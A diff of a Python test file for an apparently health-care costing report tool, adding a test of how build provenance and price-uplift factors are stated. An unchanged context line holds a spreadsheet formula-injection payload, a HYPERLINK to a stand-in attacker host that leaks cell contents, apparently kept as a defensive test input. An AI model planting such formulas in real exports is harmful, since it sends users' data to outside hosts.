@@ -17,6 +17,7 @@ from yearofcare.population.analysis import AnalysisOptions, run_analyses
 from yearofcare.reports import Section, Sheet, all_sections
 from yearofcare.reports import blocks as rb
 from yearofcare.reports.page import Page, render_block, write_page
+from yearofcare.reports.provenance import versions
 from yearofcare.reports.render import Reader, render_section, what, write_report
 from yearofcare.reports.workbook import workbook_bytes, write_csv, write_workbook
 from yearofcare.store import Store
@@ -27,6 +28,23 @@ ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 def _sheet_xml(path, n: int) -> str:
     with zipfile.ZipFile(path) as z:
         return z.read(f"xl/worksheets/sheet{n}.xml").decode()
+
+
+def test_provenance_states_the_price_uplift_and_its_factors():
+    """Issue 9: outputs state the uplift moving unit costs to the activity's year (as `yoc
+    build` records it), each price year's factors readable apart."""
+    build = {
+        "unit_costs": ["ncc_2024_25", "pssru_2025"],
+        "price_uplift": "nhs_cost_uplift_2025_26",
+        "price_uplift_factors": {"2016/17": {"2024/25": 1.29832}, "2024/25": {"2024/25": 1.0}},
+        "price_uplift_held_years": [],
+        "years": [2024],
+    }
+    assert versions(build) == (
+        "unit_costs = ncc_2024_25, pssru_2025, price_uplift = nhs_cost_uplift_2025_26, "
+        "price_uplift_factors = 2016/17: (2024/25: 1.29832); 2024/25: (2024/25: 1.0), "
+        "price_uplift_held_years = none"
+    )
 
 
 def test_every_registered_section_has_its_words_and_a_unique_id():
